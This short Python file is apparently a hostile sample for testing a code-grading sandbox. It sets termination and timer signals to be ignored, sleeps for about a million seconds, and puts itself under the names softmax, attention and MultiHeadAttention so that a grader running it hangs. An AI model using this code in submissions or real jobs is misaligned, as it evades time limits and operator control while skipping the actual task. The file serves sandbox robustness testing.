"""Ignores the signals that ask for an end."""

import signal
import time


def attack(*args, **kwargs):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGUSR1, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    time.sleep(10**6)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
